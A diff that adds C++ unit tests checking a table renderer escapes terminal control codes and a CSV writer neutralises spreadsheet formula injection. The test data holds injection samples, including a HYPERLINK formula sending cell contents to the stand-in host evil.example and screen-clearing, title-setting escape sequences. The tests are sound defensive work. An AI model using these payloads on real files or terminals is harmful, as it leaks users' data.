@@ -27,6 +27,17 @@ TEST(ATable, AlignsColumnsByCharactersNotBytes) {
       table.render().c_str());
 }
 
+TEST(ATable, ShowsLineBreaksAndEscapeCodesInACellAsEscapes) {
+  Table table({"SESSION", ">ORDER"});
+  table.add_row({"x\n<0>FAKE", "1"});
+  table.add_row({"\x1b[2J\x1b]0;owned\x07", "2"});
+  STRCMP_EQUAL(
+      "SESSION                  ORDER\n"
+      "x\\n<0>FAKE                   1\n"
+      "\\x1b[2J\\x1b]0;owned\\x07      2\n",
+      table.render().c_str());
+}
+
 TEST_GROUP(HumanFormats){};
 
 TEST(HumanFormats, ShowSizesDurationsAndMoney) {
@@ -109,6 +120,38 @@ TEST(CsvOutput, QuotesOnlyWhatNeedsIt) {
   STRCMP_EQUAL("\"two\nlines\"", csv_field("two\nlines").c_str());
   STRCMP_EQUAL("\" padded\"", csv_field(" padded").c_str());
   STRCMP_EQUAL("1,\"{\"\"a\"\":1}\",x\r\n", csv_row({"1", "{\"a\":1}", "x"}).c_str());
+}
+
+namespace {
+struct CsvCell {
+  const char* text;
+  const char* written;
+};
+// What a spreadsheet would run as a formula is written as quoted text after an apostrophe.
+const CsvCell kFormulas[] = {
+    {"=2+3", "\"'=2+3\""},
+    {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""},
+    {"+1+1", "\"'+1+1\""},
+    {"-2+3", "\"'-2+3\""},
+    {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
+    {"\t=1", "\"'\t=1\""},
+    {"\r=1", "\"'\r=1\""},
+    {"-", "\"'-\""},
+    {"-1e5", "\"'-1e5\""},
+    {"-1.", "\"'-1.\""},
+};
+// Numbers stay numbers; text that merely holds a sign elsewhere is not touched.
+const CsvCell kKept[] = {
+    {"-1.50", "-1.50"}, {"+3", "+3"}, {"-7", "-7"}, {"0.00", "0.00"}, {"a=b", "a=b"}, {"LC-12", "LC-12"},
+};
+}  // namespace
+
+TEST(CsvOutput, NeutralisesCellsASpreadsheetWouldRunAsFormulas) {
+  for (const auto& c : kFormulas) STRCMP_EQUAL_TEXT(c.written, csv_field(c.text).c_str(), c.text);
+}
+
+TEST(CsvOutput, KeepsSignedNumbersUsable) {
+  for (const auto& c : kKept) STRCMP_EQUAL_TEXT(c.written, csv_field(c.text).c_str(), c.text);
 }
 
 TEST_GROUP(AProgressBar){};
